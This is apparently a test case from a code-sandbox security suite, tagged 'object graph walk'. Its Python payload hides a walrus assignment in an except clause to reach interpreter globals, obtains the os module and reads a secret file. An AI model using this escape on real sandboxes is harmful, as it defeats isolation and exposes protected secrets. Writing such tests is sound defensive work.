# class: object graph walk
# technique: a forbidden attribute in the class an except clause takes
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
try:
    [][0]
except ((g := quit.__init__.__globals__) and IndexError):
    pass
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
